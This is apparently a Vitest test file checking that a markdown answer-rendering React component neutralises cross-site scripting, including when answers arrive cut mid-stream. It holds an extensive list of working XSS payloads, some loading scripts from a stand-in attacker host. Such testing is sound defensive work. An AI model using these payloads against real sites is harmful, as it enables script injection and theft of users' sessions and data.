import { cleanup, render } from '@testing-library/react'
import { expect, test } from 'vitest'
import AnswerText from './AnswerText'

/** Ways to run a script, by what they abuse; each stands alone, in text, in a list, in a table, in a quote and in a link. */
const code = 'alert(1)'
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationend',
]
const elements = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'iframe',
  'object',
  'embed',
  'math',
  'marquee',
]
/** Each element with two of the handlers. */
const withHandler = elements.flatMap((name, at) =>
  [0, 1].map((more) => {
    const on = handlers[(2 * at + more) % handlers.length]!
    return `<${name} src=x ${on}=${code} open autofocus>`
  }),
)
const containers = [
  `<script>${code}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<SCRIPT/x>${code}</SCRIPT/x>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<style>*{background:url(javascript:${code})}</style>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href=//evil.test/>`,
  `<form action=javascript:${code}><button>x</button></form>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<svg><animate onbegin=${code} attributeName=x></svg>`,
  `<svg><foreignObject><script>${code}</script></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><script>${code}</script></template>`,
  `<a href="javascript:${code}" ping=//evil.test>x</a>`,
  `<div style="position:fixed;inset:0" id=root class=shell>x</div>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?xml version="1.0"?><script>${code}</script>`,
  `"><img src=x onerror=${code}>`,
  `\`\`\`html"><img src=x onerror=${code}>\n<script>${code}</script>\n\`\`\``,
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://x.test/1',
  'file:///etc/passwd',
  'view-source:x',
  'intent://x',
]
const links = schemes.flatMap((scheme) => [
  `[x](${scheme}${code})`,
  `[x](<${scheme}${code}>)`,
  `<${scheme}${code}>`,
  `![x](${scheme}${code})`,
  `[x][r]\n\n[r]: ${scheme}${code}`,
  `[![x](${scheme}1)](${scheme}2)`,
])
const attacks = [...withHandler, ...containers, ...links]
const places = [
  (attack: string) => attack,
  (attack: string) => `- one\n- ${attack}`,
  (attack: string) => `| a |\n|---|\n| ${attack.replaceAll('\n', ' ')} |`,
  (attack: string) => `[${attack}](https://x.test)`,
]

const shown =
  'a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr input li ol p pre section span strong sup svg path table tbody td th thead tr ul'.split(
    ' ',
  )
const attributes =
  /^(class|href|target|rel|type|checked|disabled|start|id|align|title|role|aria-.*|data-.*|d|viewbox|width|height|fill|stroke.*|xmlns|tabindex|scope|dir|lang|popovertarget)$/i

function harmless(text: string, streaming: boolean) {
  const { container } = render(<AnswerText text={text} sources={[]} streaming={streaming} exchangeId="e" />)
  for (const element of container.querySelectorAll('*')) {
    const name = element.tagName.toLowerCase()
    if (!shown.includes(name)) return `<${name}>`
    for (const { name: attribute, value } of element.attributes) {
      if (!attributes.test(attribute)) return `${attribute} of <${name}>`
      if (attribute === 'href' && !/^(https?:|mailto:|#)/.test(value)) return `href ${value}`
      if (attribute === 'id' && /^(root|api-key)$/.test(value)) return `id ${value}`
    }
  }
  cleanup()
  return undefined
}

test.each(attacks)('an answer that holds %s runs nothing and loads nothing', (attack) => {
  for (const place of places)
    expect([place(attack), harmless(place(attack), false)]).toEqual([place(attack), undefined])
})

test('cut wherever a stream may cut it, an attack is as harmless', () => {
  for (const attack of [...containers, ...links.slice(0, 12)])
    for (let end = 1; end <= attack.length; end += 3) {
      const part = attack.slice(0, end)
      expect([part, harmless(part, true)]).toEqual([part, undefined])
    }
})
